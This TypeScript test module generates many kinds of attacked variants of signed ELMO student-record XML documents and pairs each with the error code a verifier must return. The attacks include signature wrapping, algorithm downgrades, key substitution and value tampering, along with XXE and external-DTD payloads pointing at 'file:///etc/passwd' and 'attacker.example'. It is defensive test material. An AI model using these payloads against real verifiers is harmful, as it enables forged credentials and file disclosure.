import { gzipSync } from 'node:zlib'
import type { ElmoErrorCode } from '../src/elmo-error.js'
import { forged, type Pick, type Twin } from './attack-mutants.js'
import { uris } from './signed-documents.js'

interface Attack {
  readonly xml: string | Uint8Array
  readonly code: ElmoErrorCode
  readonly certificates?: readonly string[]
}

type AttackKind = (twin: Twin, pick: Pick) => Attack

const spaces = ['', ' ', '\n', '\r\n\t'] as const
const attackerUri = 'urn:attacker'

/** The text with one change, which must take. */
function change(text: string, from: string | RegExp, to: string): string {
  const changed = text.replace(from, () => to)
  if (changed === text) throw new Error('The attack changed nothing.')
  return changed
}

/** The twin with another signature in the place of its own. */
const withSignature = ({ text, signature }: Twin, other: string): string => change(text, signature, other)
const inSignature = (twin: Twin, from: string | RegExp, to: string): string =>
  withSignature(twin, change(twin.signature, from, to))
const unsigned = (twin: Twin): string => change(twin.text, twin.signature, '')
const rootOf = (text: string): string => text.slice(text.indexOf('<elmo'), text.lastIndexOf('>') + 1)
const tag = ({ prefix }: Twin, name: string): string => `${prefix}${name}`
const partOf = (twin: Twin, name: string): string =>
  new RegExp(`<${tag(twin, name)}[ >][^]*</${tag(twin, name)}>`).exec(twin.signature)![0]
const attributesOf = (twin: Twin, name: string): RegExp => new RegExp(`(?<=<${tag(twin, name)}) [^>]*?(?=/?>)`)
/** Sets what an element of the signature says as algorithm. */
const algorithm = (twin: Twin, name: string, uri: string): string =>
  inSignature(twin, attributesOf(twin, name), ` Algorithm="${uri}"`)

/** Elements of the twin, in which something can be put. */
const hosts = ['learner', 'report', 'issuer', 'learningOpportunitySpecification', 'specifies', 'credit'] as const
const putInto = (text: string, host: string, put: string): string =>
  host === 'elmo'
    ? text.replace(/<\/elmo>(?!<)/, () => `${put}</elmo>`)
    : change(text, `</${host}>`, `${put}</${host}>`)
/** The content wrapped into so many elements that nobody knows. */
const wrapped = (content: string, levels: number): string =>
  '<w:wrap xmlns:w="urn:w">'.repeat(levels) + content + '</w:wrap>'.repeat(levels)

const structure = (xml: string): Attack => ({ xml, code: 'ELMO_SIGNATURE_STRUCTURE' })
const missing = (xml: string): Attack => ({ xml, code: 'ELMO_SIGNATURE_MISSING' })
const weak = (xml: string): Attack => ({ xml, code: 'ELMO_SIGNATURE_WEAK' })
const invalid = (xml: string): Attack => ({ xml, code: 'ELMO_SIGNATURE_INVALID' })
const markup = (xml: string): Attack => ({ xml, code: 'ELMO_FORBIDDEN_MARKUP' })
const illFormed = (xml: string): Attack => ({ xml, code: 'ELMO_NOT_WELL_FORMED' })
const encoding = (xml: Uint8Array): Attack => ({ xml, code: 'ELMO_ENCODING' })

const wrapping: Record<string, AttackKind> = {
  'the signature wrapped into the extension of a forged document': (twin, pick) =>
    missing(putInto(forged(unsigned(twin)), 'extension', wrapped(twin.signature, pick([0, 1, 3])))),
  'the signed original wrapped into the extension of a forged document': (twin, pick) =>
    missing(putInto(forged(unsigned(twin)), 'extension', wrapped(rootOf(twin.text), pick([0, 1, 3])))),
  'the signed original in a diploma supplement of a forged document': (twin) =>
    missing(
      putInto(
        forged(unsigned(twin)),
        'learningOpportunityInstance',
        `<diplomaSupplement>${rootOf(twin.text)}</diplomaSupplement>`,
      ),
    ),
  'the signed original moved inside, its signature at the forged root': (twin, pick) =>
    invalid(putInto(forged(twin.text), 'extension', wrapped(rootOf(unsigned(twin)), pick([0, 2])))),
  'the signed original inside a signature of the forged root': (twin, pick) =>
    structure(
      withSignature(
        { ...twin, text: forged(twin.text) },
        change(
          twin.signature,
          new RegExp(`</${tag(twin, 'Signature')}>$`),
          `<${tag(twin, 'Object')}${pick(['', ' Id="o"'])}>${rootOf(unsigned(twin))}</${tag(twin, 'Object')}></${tag(twin, 'Signature')}>`,
        ),
      ),
    ),
  'the signature moved to where none may stand': (twin, pick) =>
    structure(putInto(unsigned(twin), pick(hosts), wrapped(twin.signature, pick([0, 1, 4])))),
  'the root wrapped into another': (twin, pick) => {
    const name = pick(['elmo', 'wrap', 'x:elmo'])
    return structure(`<${name} xmlns:x="urn:x">${rootOf(twin.text)}</${name}>`)
  },
  'a second report beside the signed one': (twin, pick) => {
    const report = /<report>[^]*<\/report>/.exec(forged(twin.text))![0]
    const place = pick(['<report>', '<extension>', '<learner>'])
    return invalid(change(twin.text, place, report + place))
  },
}

const injections: Record<string, AttackKind> = {
  'an Object in the signature': (twin, pick) => {
    const object = `<${tag(twin, 'Object')}>${pick(['', 'text', rootOf(forged(twin.text)), '<report/>'])}</${tag(twin, 'Object')}>`
    const place = pick([
      `</${tag(twin, 'Signature')}>`,
      `<${tag(twin, 'SignatureValue')}>`,
      `<${tag(twin, 'SignedInfo')}>`,
    ])
    return structure(
      withSignature(
        twin,
        twin.signature.replace(place, (found) => object + pick(spaces) + found),
      ),
    )
  },
  'another element in the signature': (twin, pick) => {
    const name = pick(['Manifest', 'SignatureProperties', 'KeyInfo', 'SignatureValue', 'Unknown'])
    const element = `<${tag(twin, name)}/>`
    const parent = pick(['Signature', 'SignedInfo', 'Reference', 'Transforms', 'DigestMethod', 'SignatureMethod'])
    const end = new RegExp(`</${tag(twin, parent)}>|(?<=<${tag(twin, parent)} [^>]*)/>`)
    return structure(
      withSignature(
        twin,
        twin.signature.replace(end, (found) =>
          found === '/>' ? `>${element}</${tag(twin, parent)}>` : element + found,
        ),
      ),
    )
  },
  'a comment or CDATA in the signature': (twin, pick) => {
    const put = pick(['<!-- -->', '<!---->', '<![CDATA[]]>', '<![CDATA[ ]]>', '<!-- </Signature> -->'])
    const name = pick([
      'SignedInfo',
      'SignatureValue',
      'DigestValue',
      'Transforms',
      'Reference',
      'X509Data',
      'X509Certificate',
    ])
    const begins = new RegExp(`<${tag(twin, name)}(?: [^>]*)?>`)
    return structure(
      withSignature(
        twin,
        twin.signature.replace(begins, (found) => (pick([true, false]) ? found + put : `${put}${found}`)),
      ),
    )
  },
  'text between the parts of the signature': (twin, pick) => {
    const begin = `<${tag(twin, pick(['SignedInfo', 'SignatureValue', 'KeyInfo', 'Transforms', 'DigestValue']))}>`
    return structure(inSignature(twin, begin, pick(['x', '&#160;', '&lt;', '0']) + begin))
  },
  'an attribute that the specification does not know': (twin, pick) =>
    structure(
      inSignature(
        twin,
        new RegExp(
          `(?<=<${tag(twin, pick(['SignedInfo', 'SignatureValue', 'DigestValue', 'Transforms', 'SignatureMethod', 'DigestMethod']))})(?=[ >])`,
        ),
        ` ${pick(['id="x"', 'xml:id="x"', 'x:Algorithm="a" xmlns:x="urn:x"', 'Encoding="none"', 'xml:lang="en"'])}`,
      ),
    ),
  'a processing instruction': (twin, pick) => {
    const put = pick(['<?x?>', '<?xml-stylesheet href="http://attacker.example/"?>', '<?x y?>'])
    const place = pick([
      '<learner>',
      '</report>',
      '</elmo>',
      '<elmo ',
      `</${tag(twin, 'Signature')}>`,
      `<${tag(twin, 'SignatureValue')}>`,
    ])
    return markup(change(twin.text, place, put + place))
  },
  'a DOCTYPE': (twin, pick) => {
    const inner = pick([
      '',
      ' [<!ENTITY x "y">]',
      ' [<!ENTITY x SYSTEM "file:///etc/passwd">]',
      ' SYSTEM "http://attacker.example/x.dtd"',
      ' [<!ATTLIST report Id ID #IMPLIED>]',
      ' [<!ENTITY % p SYSTEM "http://attacker.example/"> %p;]',
    ])
    return markup(change(twin.text, '<elmo', `${pick(spaces)}<!DOCTYPE elmo${inner}>${pick(spaces)}<elmo`))
  },
  'an entity that nobody declared': (twin, pick) =>
    markup(
      change(twin.text, pick(['Tolvansson', '7.5', 'VG', 'ABC123']), pick(['&x;', '&nbsp;', '&eacute;', 'a&xxe;b'])),
    ),
}

const references: Record<string, AttackKind> = {
  'a reference to something else than the document': (twin, pick) => {
    const uri = pick([
      '#x',
      '#xpointer(/)',
      "#xpointer(id('x'))",
      'https://attacker.example/',
      'file:///etc/passwd',
      ' ',
      '?',
      'elmo.xml',
      '#',
    ])
    const ids = pick(['', ' Id="x"'])
    const xml = inSignature(twin, attributesOf(twin, 'Reference'), ` URI="${uri}"`)
    return structure(ids === '' ? xml : change(xml, '<report>', `<report${ids}>`))
  },
  'duplicate ids, one of them signed': (twin, pick) => {
    const [first, second] = pick([
      ['<learner>', '<report>'],
      ['<report>', '<issuer>'],
      ['<issuer>', '<credit>'],
    ])
    const id = pick(['Id', 'ID', 'id', 'xml:id'])
    const marked = [first, second].reduce(
      (text, at) => change(text, at!, at!.replace('>', ` ${id}="x">`)),
      forged(twin.text),
    )
    const signature = change(twin.signature, attributesOf(twin, 'Reference'), ' URI="#x"')
    return structure(change(marked, twin.signature, signature))
  },
  'no reference, or one without URI': (twin, pick) =>
    structure(
      pick([true, false])
        ? inSignature(twin, partOf(twin, 'Reference'), '')
        : inSignature(twin, attributesOf(twin, 'Reference'), pick(['', ' Id="x"', ' uri=""', ' Type=""'])),
    ),
  'a second reference': (twin, pick) => {
    const own = partOf(twin, 'Reference')
    const second = pick([
      own,
      change(own, 'URI=""', 'URI="#x"'),
      change(own, 'URI=""', 'URI="https://attacker.example/"'),
    ])
    return structure(inSignature(twin, own, pick([own + second, second + own])))
  },
  'a second SignedInfo': (twin, pick) => {
    const own = partOf(twin, 'SignedInfo')
    const second = pick([own, own.replace(/(DigestValue>)[^<]*/, '$1AAAA'), `<${tag(twin, 'SignedInfo')}/>`])
    return structure(inSignature(twin, own, pick([own + second, second + own])))
  },
  'a second signature at the root': (twin, pick) => {
    const forger = twin.signAsAttacker(forged(unsigned(twin)))
    const theirs = forger.slice(
      forger.search(/<(?:\w+:)?Signature (?![^]*<(?:\w+:)?Signature )/),
      forger.lastIndexOf('</elmo>'),
    )
    const second = pick([twin.signature, theirs, `<Signature xmlns="${uris.dsig}"/>`])
    return structure(withSignature(twin, pick([twin.signature + second, second + twin.signature])))
  },
  'a signature inside KeyInfo': (twin, pick) => {
    const put = pick([
      twin.signature,
      partOf(twin, 'SignedInfo'),
      partOf(twin, 'Reference'),
      `<${tag(twin, 'Object')}/>`,
    ])
    const place = pick(['KeyInfo', 'X509Data'])
    return structure(inSignature(twin, `<${tag(twin, place)}>`, `<${tag(twin, place)}>${wrapped(put, pick([0, 1]))}`))
  },
}

const algorithms: Record<string, AttackKind> = {
  'a canonicalisation that is void, unknown or keeps comments': (twin, pick) => {
    const uri = pick([
      ...['', 'urn:none', `${uris.inclusive}#WithComments`, `${uris.exclusive}WithComments`, ` ${uris.inclusive}`],
      ...[
        'http://www.w3.org/2006/12/xml-c14n11',
        'http://www.w3.org/2010/xml-c14n2',
        uris.enveloped,
        uris.exclusive.slice(0, -1),
      ],
    ])
    return structure(
      pick([true, false])
        ? algorithm(twin, 'CanonicalizationMethod', uri)
        : inSignature(
            twin,
            `</${tag(twin, 'Transforms')}>`,
            `<${tag(twin, 'Transform')} Algorithm="${uri}"/></${tag(twin, 'Transforms')}>`,
          ),
    )
  },
  'a method that names no algorithm': (twin, pick) =>
    structure(
      inSignature(
        twin,
        attributesOf(twin, pick(['CanonicalizationMethod', 'SignatureMethod', 'DigestMethod', 'Transform'])),
        '',
      ),
    ),
  'a transform that selects or computes': (twin, pick) => {
    const uri = pick([
      ...['http://www.w3.org/TR/1999/REC-xpath-19991116', 'http://www.w3.org/2002/06/xmldsig-filter2'],
      ...['http://www.w3.org/TR/1999/REC-xslt-19991116', `${uris.dsig}base64`, 'http://www.w3.org/2002/07/decrypt#XML'],
    ])
    const own = partOf(twin, 'Transforms')
    const transform = `<${tag(twin, 'Transform')} Algorithm="${uri}">${pick(['', `<${tag(twin, 'XPath')}>not(self::report)</${tag(twin, 'XPath')}>`])}</${tag(twin, 'Transform')}>`
    const begin = `<${tag(twin, 'Transforms')}>`
    const end = `</${tag(twin, 'Transforms')}>`
    return structure(
      inSignature(
        twin,
        own,
        pick([change(own, begin, begin + transform), change(own, end, transform + end), begin + transform + end]),
      ),
    )
  },
  'the transforms changed': (twin, pick) => {
    const p = tag(twin, 'Transform')
    const [e, i, x] = [uris.enveloped, uris.inclusive, uris.exclusive].map((uri) => `<${p} Algorithm="${uri}"/>`)
    const list = pick(['', i, x, `${i}${e}`, `${e}${e}`, `${e}${i}${x}`, `${e}${i}${i}`, `${x}${e}`])
    return structure(inSignature(twin, partOf(twin, 'Transforms'), `<${p}s>${list}</${p}s>`))
  },
  'an algorithm that is none or is broken': (twin, pick) => {
    const more = 'http://www.w3.org/2001/04/xmldsig-more#'
    const [method, uri] = pick([
      ...[`${uris.dsig}hmac-sha1`, `${more}hmac-sha256`, `${more}hmac-sha512`, `${uris.dsig}dsa-sha1`].map((one) => [
        'SignatureMethod',
        one,
      ]),
      ...[`${more}rsa-md5`, 'none', '', 'constructor', '__proto__', 'rsa-sha256', `${more}RSA-SHA256`].map((one) => [
        'SignatureMethod',
        one,
      ]),
      ...['http://www.w3.org/2007/05/xmldsig-more#sha256-rsa-MGF1', uris.digest.sha256].map((one) => [
        'SignatureMethod',
        one,
      ]),
      ...[`${more}md5`, '', 'none', 'toString', uris.signature('rsa', 'sha256'), `${uris.digest.sha256} `].map(
        (one) => ['DigestMethod', one],
      ),
    ])
    return weak(algorithm(twin, method!, uri!))
  },
  'SHA-1 claimed': (twin, pick) =>
    weak(
      pick([
        algorithm(twin, 'SignatureMethod', uris.signature('rsa', 'sha1')),
        algorithm(twin, 'SignatureMethod', uris.signature('ecdsa', 'sha1')),
        algorithm(twin, 'DigestMethod', uris.digest.sha1),
      ]),
    ),
  'a truncated HMAC': (twin, pick) => {
    const element = `<${tag(twin, 'SignatureMethod')} Algorithm="${pick([`${uris.dsig}hmac-sha1`, uris.signature('rsa', 'sha256')])}"><${tag(twin, 'HMACOutputLength')}>${pick(['0', '1', '8'])}</${tag(twin, 'HMACOutputLength')}></${tag(twin, 'SignatureMethod')}>`
    return structure(
      inSignature(
        twin,
        new RegExp(`<${tag(twin, 'SignatureMethod')} [^>]*?(?:/>|></${tag(twin, 'SignatureMethod')}>)`),
        element,
      ),
    )
  },
  'an accepted algorithm that is not the one of the signature': (twin, pick) => {
    const hashes = ['sha256', 'sha384', 'sha512'] as const
    const own = /SignatureMethod Algorithm="([^"]*)/.exec(twin.signature)![1]!
    const others = hashes.flatMap((hash) => [uris.signature('rsa', hash), uris.signature('ecdsa', hash)])
    return invalid(algorithm(twin, 'SignatureMethod', pick(others.filter((uri) => uri !== own))))
  },
  'the other canonicalisation': (twin) => {
    const own = /CanonicalizationMethod Algorithm="([^"]*)/.exec(twin.signature)![1]!
    return invalid(algorithm(twin, 'CanonicalizationMethod', own === uris.inclusive ? uris.exclusive : uris.inclusive))
  },
  'a short key of the honest signer': (twin) => ({
    ...weak(twin.text),
    certificates: [twin.shortKey.certificate],
  }),
}

const keys: Record<string, AttackKind> = {
  'a forged document whose key is in KeyInfo alone': (twin, pick) => ({
    xml: twin.signAsAttacker(forged(unsigned(twin))).replace(/(?<=<\/(?:\w+:)?KeyInfo>)/, () => pick(spaces)),
    code: 'ELMO_SIGNER_UNKNOWN',
  }),
  'a forged document of the attacker, with no key or the honest one inside': (twin, pick) => {
    const theirs = twin.signAsAttacker(forged(unsigned(twin)))
    return invalid(change(theirs, /<(?:\w+:)?KeyInfo>[^]*<\/(?:\w+:)?KeyInfo>/, pick(['', partOf(twin, 'KeyInfo')])))
  },
  'no key to verify with': (twin) => ({ xml: twin.text, code: 'ELMO_SIGNER_UNKNOWN', certificates: [] }),
  'the signature of another document': (twin, pick) => {
    const other = twin.signHonestly(change(unsigned(twin), pick(['7.5', 'VG', 'Tolvan', 'ABC123']), 'X1'))
    const theirs = other.slice(
      other.search(/<(?:\w+:)?Signature (?![^]*<(?:\w+:)?Signature )/),
      other.lastIndexOf('</elmo>'),
    )
    return invalid(withSignature(twin, theirs))
  },
}

const values: Record<string, AttackKind> = {
  'a changed value': (twin, pick) => {
    const value = pick(['7.5', 'VG', 'Tolvan', 'ABC123', 'passed', '1912-12-12', 'SE', 'ects', 'Course'])
    return invalid(change(twin.text, `>${value}<`, `>${pick(['9', 'x', `${value} `, `${value}&#13;`, ''])}<`))
  },
  'something added to the content': (twin, pick) =>
    invalid(
      putInto(
        twin.text,
        pick([...hosts, 'extension']),
        pick([' ', '\n', 'x', '<x/>', '&#13;', '<x xmlns=""/>', '<![CDATA[ ]]>']),
      ),
    ),
  'an attribute or a declaration added to the root': (twin, pick) =>
    invalid(change(twin.text, '<elmo ', `<elmo ${pick(['language="xx"', 'xml:lang="en"', 'xml:base="x"', 'a=""'])} `)),
  'another namespace': (twin, pick) =>
    invalid(change(twin.text, 'tree/v1"', pick(['tree/v2"', 'tree/v1/"', 'tree/V1"', 'tree/v1#"']))),
  'a changed digest or signature value': (twin, pick) => {
    const name = pick(['DigestValue', 'SignatureValue'])
    const own = partOf(twin, name)
    return invalid(
      inSignature(
        twin,
        own,
        own.replace(
          />(....)(?=[^<])/,
          (_all, four: string) => `>${pick(['AAAA', 'BBBB', '////', '++++'].filter((other) => other !== four))}`,
        ),
      ),
    )
  },
  'a value that is not base64': (twin, pick) => {
    const name = pick(['DigestValue', 'SignatureValue'])
    const own = partOf(twin, name)
    return structure(
      inSignature(
        twin,
        own,
        pick([
          ...[own.replace('>', '>*'), own.replace('>', '>&#160;'), own.replace('>', '>='), own.replace('>', '>A')],
          ...[
            own.replace(/>[^<]*</, '><'),
            own.replace(/>[^<]*</, '> <'),
            own.replace('</', '=</'),
            own.replace('>', '>-_-_'),
          ],
          ...[
            own.replace('>', '>AA==AA'),
            own.replace('>', '>&#0065;'),
            own.replace('>', '>\u200b'),
            own.replace('>', '><x/>'),
          ],
          own.replace('>', `>${'AAAA'.repeat(3000)}`),
        ]),
      ),
    )
  },
  unsigned: (twin, pick) => missing(pick([unsigned(twin), forged(unsigned(twin))])),
  'the signature in a comment or in CDATA': (twin, pick) =>
    missing(withSignature(twin, pick([`<!--${twin.signature}-->`, `<![CDATA[${twin.signature}]]>`]))),
  'the signature by another name': (twin, pick) => {
    const name = pick(['signature', 'SIGNATURE', 'Signatur', 'Signature2', 'Sig'])
    const signature = twin.signature.replace(/(<\/?(?:\w+:)?)Signature(?=[ >])/g, `$1${name}`)
    return missing(withSignature(twin, signature))
  },
  'the signature in another namespace': (twin, pick) =>
    missing(
      inSignature(
        twin,
        `"${uris.dsig}"`,
        `"${pick([attackerUri, uris.dsig.slice(0, -1), `${uris.dsig} `, uris.dsig.toUpperCase(), 'http://www.w3.org/2009/xmldsig11#'])}"`,
      ),
    ),
  'a part of the signature in another namespace': (twin, pick) => {
    const name = pick(['SignedInfo', 'SignatureValue', 'Reference', 'DigestValue', 'Transforms', 'SignatureMethod'])
    const declaration = twin.prefix === '' ? 'xmlns' : `xmlns:${twin.prefix.slice(0, -1)}`
    return structure(
      inSignature(
        twin,
        new RegExp(`(?<=<${tag(twin, name)})(?=[ >])`),
        ` ${declaration}="${pick([attackerUri, uris.exclusive])}"`,
      ),
    )
  },
}

const bytes: Record<string, AttackKind> = {
  'an encoding that is not UTF-8': (twin, pick) =>
    encoding(
      pick([
        Buffer.from(`\ufeff${twin.text}`, 'utf16le'),
        Buffer.from(twin.text, 'utf16le'),
        Buffer.from(twin.text, 'utf16le').swap16(),
        Buffer.from(change(twin.text, 'UTF-8', pick(['ISO-8859-1', 'UTF-16', 'UTF-7', 'windows-1252']))),
        Buffer.from(twin.text.replace('Tolvansson', 'Tolv\u00e4nsson'), 'latin1'),
      ]),
    ),
  'bytes that are no UTF-8': (twin, pick) => {
    const at = Buffer.from(twin.text).indexOf(pick(['Tolvansson', 'ABC123', '</report>']))
    const put = pick([
      [0xc0, 0xbc],
      [0xc1, 0x81],
      [0xed, 0xa0, 0x80],
      [0xf4, 0x90, 0x80, 0x80],
      [0x80],
      [0xe2, 0x82],
      [0xff],
    ])
    const whole = Buffer.from(twin.text)
    return encoding(Buffer.concat([whole.subarray(0, at), Buffer.from(put), whole.subarray(at)]))
  },
  'a character that XML cannot carry': (twin, pick) =>
    illFormed(
      change(
        twin.text,
        pick(['Tolvansson', 'ABC123', 'VG']),
        pick(['\0', '\u0001', '&#0;', '&#x1F;', '&#xD800;', '\ufffe', '&#xFFFF;', '&#1114112;']),
      ),
    ),
  'more than one document': (twin, pick) =>
    illFormed(twin.text + pick(['text', rootOf(forged(twin.text)), '<x/>', '&#32;', ']]>', '<![CDATA[ ]]>'])),
  'markup that contradicts itself': (twin, pick) =>
    illFormed(
      pick([
        inSignature(twin, 'Algorithm=', 'Algorithm="urn:x" Algorithm='),
        change(twin.text, '<report>', '<report a="1" a="2">'),
        change(twin.text, '<report>', '<report xmlns:a="urn:x" xmlns:b="urn:x" a:c="" b:c="">'),
        change(twin.text, '</report>', '</Report>'),
        change(twin.text, '<report>', '<x:report>'),
        change(twin.text, '<report>', '<report xmlns:xml="urn:x">'),
        change(twin.text, '<report>', '<report xmlns:p="">'),
        change(twin.text, '7.5', ']]>'),
        twin.text.slice(0, twin.text.lastIndexOf('</elmo')),
      ]),
    ),
  'a forged first member of gzip before the signed one': (twin, pick) => ({
    xml: Buffer.concat([gzipSync(forged(unsigned(twin))), ...pick([[gzipSync(twin.text)], [Buffer.from(twin.text)]])]),
    code: 'ELMO_SIGNATURE_MISSING',
  }),
  'a document cut in two members of gzip': (twin, pick) => {
    const at = Math.floor(twin.text.length / pick([2, 3, 5]))
    return {
      xml: Buffer.concat([gzipSync(twin.text.slice(0, at)), gzipSync(twin.text.slice(at))]),
      code: 'ELMO_NOT_WELL_FORMED',
    }
  },
}

/** Every kind of attack, by what it tries. Each makes many of its kind, and tells the code that must refuse them. */
export const attackKinds: Readonly<Record<string, AttackKind>> = {
  ...wrapping,
  ...injections,
  ...references,
  ...algorithms,
  ...keys,
  ...values,
  ...bytes,
}
